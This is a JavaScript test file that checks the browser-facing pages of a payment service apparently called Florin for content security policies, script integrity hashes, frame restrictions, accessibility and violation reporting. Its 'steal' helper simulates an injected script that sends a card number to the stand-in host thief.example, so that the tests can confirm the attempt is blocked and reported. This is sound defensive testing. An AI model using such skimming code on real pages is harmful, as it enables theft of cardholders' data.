// Every page that a browser gets from Florin and its sandbox, as it is really sent: accessibility (axe), policies (csp_evaluator), the
// hashes of scripts, who may show it in a frame, what browsers report, and the inventory that the operator is given.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createServer, request as ask } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { after, afterEach, before, test } from 'node:test';
import { accessibilityFindings, inputOf, startBrowser } from '../lib/browser.mjs';
import { newFolder } from '../lib/florin.mjs';
import { runProcess } from '../lib/process.mjs';
import { SHOP } from '../lib/vault_cards.mjs';
import { CARDS, startBrowserWorld } from './browser_world.mjs';
import { assertOk, pay, run, start, waitFor } from './support.mjs';

const require = createRequire(import.meta.url);
const { CspEvaluator } = require('csp_evaluator');
const { CspParser } = require('csp_evaluator/dist/parser.js');

let world, florin, shop, checkout;
before(async () => {
  world = await startBrowserWorld();
  florin = world.florin;
  shop = await world.shop();
  checkout = await make();
  world.typed.add(CARDS.approved);
});
afterEach(() => world.closePages());
after(() => world?.stop());

const make = async (more) => assertOk(await florin.post('/v1/checkouts', { amount: 9232, currency: 'EUR', ...more }));
const challenged = (more) => pay(florin, { payment_method_token: 'pm_tok_3ds_challenge', ...more });
const answered = (payment, answer) => fetch(`${payment.next_action.url}?answer=${answer}`, { method: 'POST', redirect: 'manual' });
// Where the browser comes back to.
const returnOf = async (payment, answer) => (answer ? (await answered(payment, answer)).headers.get('location') : undefined);
const fieldUrl = (kind, origin = SHOP) => `${florin.card}/fields/${kind}?o=${encodeURIComponent(origin)}&g=${'0'.repeat(32)}&l=en`;

async function chargeOf() {
  const { charges } = await florin.book();
  return charges.at(-1).reference;
}

// name: its address. What stands in the way of scripts on the pages of the card and public listeners is stricter than on the sandbox's.
const PAGES = {
  'field: number': async () => fieldUrl('number'), 'field: expiry': async () => fieldUrl('expiry'), 'field: cvc': async () => fieldUrl('cvc'),
  checkout: async () => checkout.url,
  'checkout: expired': async () => {
    const one = await make();
    assertOk(await florin.post(`/v1/checkouts/${one.id}/expire`, {}));
    return one.url;
  },
  'checkout: none of that address': async () => checkout.url.replace(/.$/, (c) => (c === '0' ? '1' : '0')),
  'return: paid': async () => returnOf(await challenged(), 'approve'), 'return: failed': async () => returnOf(await challenged({ description: 'Order <7> & more' }), 'fail'),
  'return: none of that address': async () => `${florin.public}/return/2/pay_${'0'.repeat(26)}/${'0'.repeat(32)}`,
  'sandbox: challenge': async () => (await challenged()).next_action.url,
  'sandbox: answered': async () => { const one = await challenged(); await answered(one, 'approve'); return one.next_action.url; },
  'sandbox: no such challenge': async () => `${florin.sandbox}/challenge/ch_${'0'.repeat(26)}`,
  'sandbox: charges': async () => `${florin.sandbox}/control`, 'sandbox: a charge': async () => `${florin.sandbox}/control?reference=${await chargeOf()}`,
  'the demo shop': async () => `${shop.url}/`,
};

for (const [name, address] of Object.entries(PAGES)) {
  test(`${name}: its policy holds, its hashes are true, everybody can read it`, async () => {
    const url = await address(), page = await world.page();
    const response = await page.goto(url), html = await response.text(), policy = (await response.allHeaders())['content-security-policy'];
    const findings = new CspEvaluator(new CspParser(policy).csp).evaluate();
    assert.deepEqual(findings.filter((one) => one.severity <= 20).map((one) => `${one.directive}: ${one.description}`), [], policy);
    assert.match(policy, /^default-src 'none'; /);
    assert.match(policy, /frame-ancestors /);
    assert.doesNotMatch(policy, /unsafe/);
    for (const [, attributes] of html.matchAll(/<script([^>]* src="[^>]*)>/g)) {
      if (url.startsWith(florin.sandbox) || attributes.includes('src="/shop.js"')) continue; // the page's own, of its own origin
      const [, src] = attributes.match(/ src="([^"]+)"/), [, integrity] = attributes.match(/ integrity="([^"]+)"/);
      const script = Buffer.from(await (await fetch(new URL(src, url))).arrayBuffer());
      assert.equal(integrity, `sha384-${createHash('sha384').update(script).digest('base64')}`, src);
    }
    await page.locator('main:not([aria-busy])').waitFor();
    if (name.startsWith('the demo')) await inputOf(page, 'cvc').waitFor();
    assert.deepEqual(await accessibilityFindings(page), []);
    await page.emulateMedia({ colorScheme: 'dark' });
    assert.deepEqual(await accessibilityFindings(page), [], 'in the dark');
    assert.deepEqual(page.complaints.filter((one) => !/status of 404/.test(one)), []);
  });
}

test('back from the bank while nothing is decided: the page finds out by itself', async () => {
  const payment = await challenged();
  const back = await returnOf(payment, 'approve');
  await florin.request('POST', '/control/faults', { base: florin.sandbox, body: { next: 1, kind: 'delay', operation: 'confirm', ms: 8000 } }); // longer than the first answer waits
  const page = await world.page();
  await page.goto(back);
  await page.getByRole('heading', { name: 'One moment' }).waitFor();
  assert.deepEqual(await accessibilityFindings(page), []);
  await page.getByRole('heading', { name: 'Thank you' }).waitFor();
  assert.deepEqual(page.complaints, []);
});

// --- who may show them ---

const servers = [];
after(() => { for (const one of servers) { one.close(); one.closeAllConnections(); } });
async function serve(html) {
  const server = createServer((request, response) => response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(html(`http://127.0.0.1:${server.address().port}`)));
  servers.push(server);
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  return `http://127.0.0.1:${server.address().port}`;
}
const framing = (address) => (own) => `<!doctype html><html lang="en"><title>Elsewhere</title><iframe title="x" src="${address(own)}"></iframe>`;
const framed = async (page) => (await page.locator('iframe').elementHandle()).contentFrame();

for (const [name, address] of [['a field of the shop', () => fieldUrl('number', shop.url)], ['the checkout', () => checkout.url]]) {
  test(`a foreign page cannot show ${name}`, async () => {
    const page = await world.page();
    await page.goto(await serve(framing(address)));
    await waitFor(async () => (await framed(page)).url().startsWith('chrome-error:'));
    assert.match(page.complaints.join(), /frame-ancestors/);
  });
}

test('the origin that a field was asked for can show it (control)', async () => {
  const page = await world.page();
  await page.goto(await serve(framing((own) => fieldUrl('number', own))));
  await inputOf(page, 'number').waitFor();
});

test('a page of another origin cannot use a shop\'s token', async () => {
  const { client_token: token } = await (await fetch(`${shop.url}/shop/token`, { method: 'POST' })).json();
  const page = await world.page(), other = await serve(() => `<!doctype html><html lang="en"><title>Elsewhere</title><script src="${florin.card}/florin.js"></script>
    <div id="number"></div><div id="expiry"></div><div id="cvc"></div>
    <script>const client = Florin({ clientToken: async () => '${token}' }); for (const kind of ['number', 'expiry', 'cvc']) client.fields.create(kind).mount('#' + kind);</script>`);
  await page.goto(other);
  await world.typeCard(page, CARDS.approved);
  const { error, paymentMethod } = await page.evaluate(() => client.createPaymentMethod());
  assert.deepEqual([paymentMethod, error.code], [undefined, 'permission_denied']);
});

// --- what browsers report ---

const reports = async (of) => JSON.parse((await run(['pages', 'reports', ...of.place])).stdout).data;
// What a script does that came into the page: it wants the number out.
const STOLEN = '4000000000000002';
const steal = (frame) => frame.evaluate((number) => {
  new Image().src = `https://thief.example/${number}/?card=${number}`;
  fetch('https://thief.example/', { method: 'POST', body: number }).catch(() => undefined);
  try { document.head.append(Object.assign(document.createElement('script'), { text: 'window.ran = true' })); } catch { /* no trusted text */ }
  return window.ran;
}, STOLEN);

for (const [name, kind, where] of [['a field', 'fields', async (page) => { await page.goto(shop.url); await inputOf(page, 'cvc').waitFor(); return page.frames().find((one) => one.url().includes('/fields/number')); }],
  ['the checkout', 'checkout', async (page) => { await page.goto(checkout.url); return page.mainFrame(); }]]) {
  test(`what a foreign script tries in ${name} is refused and reported, without numbers`, async () => {
    const page = await world.page();
    assert.equal(await steal(await where(page)), undefined);
    for (const directive of ['img-src', 'connect-src', 'require-trusted-types-for'])
      await waitFor(async () => (await reports(florin)).find(({ report }) => report.page === kind && report.directive === directive), { message: () => directive });
    assert.doesNotMatch(JSON.stringify(await reports(florin)), new RegExp(STOLEN));
    assert.doesNotMatch(florin.log(), new RegExp(STOLEN));
  });
}

test('over TLS browsers report by report-to', async () => {
  const folder = newFolder(), key = join(folder, 'key.pem'), cert = join(folder, 'cert.pem');
  const made = await runProcess('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-days', '2', '-subj', '/CN=127.0.0.1', '-addext', 'subjectAltName=IP:127.0.0.1', '-keyout', key, '-out', cert]);
  assert.equal(made.code, 0, made.stderr);
  let other; // the proxy stands before Florin knows its address
  const types = [];
  const proxy = createTlsServer({ key: readFileSync(key), cert: readFileSync(cert) }, (request, response) => {
    if (request.url === '/reports') types.push(request.headers['content-type']);
    request.pipe(ask(new URL(request.url, other.card), { method: request.method, headers: request.headers }, (answer) => {
      response.writeHead(answer.statusCode, answer.headers);
      answer.pipe(response);
    }));
  });
  servers.push(proxy);
  await new Promise((done) => proxy.listen(0, '127.0.0.1', done));
  const url = `https://127.0.0.1:${proxy.address().port}`, browser = await startBrowser({ args: ['--short-reporting-delay', '--ignore-certificate-errors'] });
  other = await start({ settings: { 'card-url': url } });
  const page = await browser.page();
  const response = await page.goto(`${url}/fields/number?o=${encodeURIComponent(SHOP)}&g=${'0'.repeat(32)}&l=en`);
  assert.match((await response.allHeaders())['content-security-policy'], /report-uri \/reports; report-to pages;/);
  await steal(page);
  await waitFor(async () => (await reports(other)).find((one) => one.report.directive === 'img-src'), { timeout: 20000 });
  assert.deepEqual([...new Set(types)], ['application/reports+json'], 'of the Reporting API, and none by report-uri');
  await browser.stop();
  await other.stop();
});

// --- the inventory ---

test('the inventory says what is served', async () => {
  const at = ['--card-url', florin.card, '--public-url', florin.public];
  const shown = await run(['pages', 'inventory', ...at]), { pages } = JSON.parse((await run(['pages', 'inventory', ...at, '--json'])).stdout);
  assert.equal(shown.code, 0);
  assert.deepEqual(pages.map((one) => one.page), ['card field', 'checkout', 'a shop\'s page with card fields', 'back from the bank']);
  const [field, pay_, , back] = pages, served = [fieldUrl('number', 'https://shop.example'), checkout.url, undefined, await returnOf(await challenged(), 'approve')];
  for (const [i, page] of pages.entries()) {
    for (const script of page.scripts) {
      assert.ok(shown.stdout.includes(script.integrity) && script.purpose.length > 20);
      if (!script.address) continue;
      const bytes = Buffer.from(await (await fetch(script.address)).arrayBuffer());
      assert.deepEqual([bytes.length, `sha384-${createHash('sha384').update(bytes).digest('base64')}`], [script.bytes, script.integrity]);
    }
    if (!served[i]) continue;
    const answer = await fetch(served[i]), html = await answer.text();
    assert.equal(answer.headers.get('content-security-policy').replaceAll(/nonce-[^']+/g, 'nonce-NONCE'), page.policy, page.page);
    const used = [...html.matchAll(/<script[^>]* src="([^"]+)"/g)].map(([, src]) => new URL(src, served[i]).href);
    assert.deepEqual(used, page.scripts.map((one) => one.address).filter(Boolean), page.page);
  }
  assert.ok(field.policy && pay_.policy && back.policy.includes(back.scripts[0].integrity));
});
